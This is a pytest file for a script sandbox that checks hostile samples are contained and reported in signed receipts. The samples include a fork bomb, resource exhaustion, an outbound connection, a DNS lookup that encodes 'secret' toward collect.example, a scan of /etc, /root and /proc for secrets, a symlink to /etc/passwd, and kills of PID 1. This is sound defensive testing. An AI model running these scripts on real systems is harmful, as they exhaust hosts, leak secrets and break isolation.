"""Scripts that try to get out, or to use everything up: each is contained, and its receipt says what it tried."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from skillyard.domain.runs.execute import execute
from skillyard.domain.runs.limits import narrowed
from skillyard.domain.runs.read import get_receipt, get_run, read_stream
from skillyard.domain.runs.start import start_run
from skillyard.skill.names import SkillName
from skillyard.skill.receipts import open_receipt
from tests.domain.runs.yard import Yard, a_yard
from tests.makers import a_release

NAME = SkillName.parse("ada/hostile")
PERMISSIONS = {"filesystem": {"write": ["out/**"]}}
MARK = "sky-secret-of-the-server"
SCRIPTS = {
    "connect.py": "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=3)\n",
    "resolve.py": "import socket\nprint(socket.getaddrinfo('c2VjcmV0.collect.example', 80))\n",
    "shell.py": "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'id'], check=True)\n",
    "fork.py": "import os\nwhile True:\n    os.fork()\n",
    "memory.py": "kept = []\nwhile True:\n    kept.append(bytearray(16 << 20))\n",
    "disk.py": "import os\nos.makedirs('out', exist_ok=True)\nwith open('out/big', 'wb') as big:\n"
    "    while True:\n        big.write(bytes(1 << 20))\n",
    "output.py": "while True:\n    print('x' * 4096)\n",
    "forever.py": "while True:\n    pass\n",
    "parent.py": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)\n"
    "print('alive')\n",
    "look.py": "import os, pathlib\nfound = []\n"
    "for root in ('/proc', '/home', '/root', '/var', '/etc', '/tmp', '/work'):\n"
    "    for folder, _, names in os.walk(root):\n        for name in names[:50]:\n            try:\n"
    "                found.append((pathlib.Path(folder) / name).open('rb').read(4096))\n            except OSError:\n"
    "                pass\nprint(b''.join(found).decode('utf-8', 'replace').count('sky-secret'))\n",
    "links.py": "import os\nos.makedirs('out', exist_ok=True)\n"
    "os.symlink('/etc/passwd', 'out/passwd')\nos.symlink('/', 'out/root')\n"
    "os.mkfifo('out/pipe')\nopen('out/fine.txt', 'w').write('fine')\nopen('out/new\\nline', 'w').write('x')\n"
    "with open('out/sparse', 'wb') as sparse:\n    sparse.truncate(1 << 33)\n",
    "mount.py": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "print(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), libc.unshare(0x10000000), libc.ptrace(0, 0, 0, 0))\n",
}


@pytest.fixture(scope="module")
def yard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Yard]:
    folder = tmp_path_factory.mktemp("hostile")
    yard = a_yard(folder)
    (Path(folder) / "data" / "secret.txt").write_text(MARK)
    files = {f"scripts/{name}": text for name, text in SCRIPTS.items()}
    a_release(yard.app, yard.ada, str(NAME), files={**files, "skills.json": json.dumps({"permissions": PERMISSIONS})})
    yield yard
    yard.app.close()


def run(yard: Yard, script: str, **limits: Any) -> tuple[dict[str, Any], str]:
    """Its receipt, checked, and what it printed."""
    asked = narrowed(yard.app.settings, **{"seconds": 6, "memory_mb": 128, "disk_mb": 8, "output_kb": 64} | limits)
    started = start_run(yard.app, yard.ada, name=NAME, script=script, limits=asked)
    execute(yard.app, run_id=started.id)
    receipt = get_receipt(yard.app, yard.ada, run_id=started.id)
    facts = open_receipt(receipt, yard.app.log_key.verifier)
    stdout = read_stream(yard.app, yard.ada, run_id=started.id, stream="stdout").decode("utf-8", "replace")
    over = get_run(yard.app, yard.ada, run_id=started.id)
    return facts | {"notes": over.notes, "files": {file.path for file in over.files_out}}, stdout


@pytest.mark.parametrize("script", ["connect.py", "resolve.py", "shell.py"])
def test_what_is_not_declared_is_refused_and_named(yard: Yard, script: str) -> None:
    facts, said = run(yard, script)
    assert facts["outcome"]["status"] == "failed"
    assert any(facts["observed"][kind] for kind in ("hosts_refused", "programs_refused", "other_refused")), facts
    assert said == ""


@pytest.mark.parametrize(
    ("script", "limits"),
    [
        ("memory.py", {"memory_bytes"}),
        ("disk.py", {"disk_bytes"}),
        ("output.py", {"output_bytes"}),
        ("forever.py", {"wall_s", "cpu_s"}),
    ],
)
def test_whoever_uses_everything_up_meets_a_limit_that_is_named(yard: Yard, script: str, limits: set[str]) -> None:
    facts, _ = run(yard, script, seconds=4)
    assert facts["outcome"]["status"] == "failed"
    assert limits & set(facts["limits_hit"]), facts["limits_hit"]
    assert facts["output"]["stdout_bytes"] <= 64 * 1024
    assert facts["output"]["files"]["size_bytes"] <= 8 << 20


def test_a_fork_bomb_is_contained(yard: Yard) -> None:
    facts, _ = run(yard, "fork.py", seconds=3)
    assert facts["outcome"]["status"] == "failed"
    assert facts["limits_hit"] or facts["observed"]["programs_refused"] or facts["observed"]["other_refused"]


def test_nothing_of_the_server_or_of_others_is_in_sight(yard: Yard) -> None:
    facts, said = run(yard, "look.py")
    assert said.strip() in ("0", ""), facts


def test_signals_reach_nobody_outside(yard: Yard) -> None:
    _, said = run(yard, "parent.py")
    assert said.strip() in ("alive", "")
    assert run(yard, "links.py")[0]["kind"] == "run", "the server still runs scripts"


def test_links_devices_and_strange_names_stay_inside_and_are_named(yard: Yard) -> None:
    facts, _ = run(yard, "links.py")
    assert facts["files"] <= {"out/fine.txt", "out/sparse"}
    assert facts["output"]["files"]["size_bytes"] <= 8 << 20
    told = " ".join([*facts["notes"], *facts["observed"]["files_refused"], *facts["limits_hit"]])
    assert "passwd" in told or "root" in told or "disk_bytes" in told, facts


def test_mounts_namespaces_and_tracing_are_refused(yard: Yard) -> None:
    facts, said = run(yard, "mount.py")
    assert said.strip() in ("-1 -1 -1", ""), facts
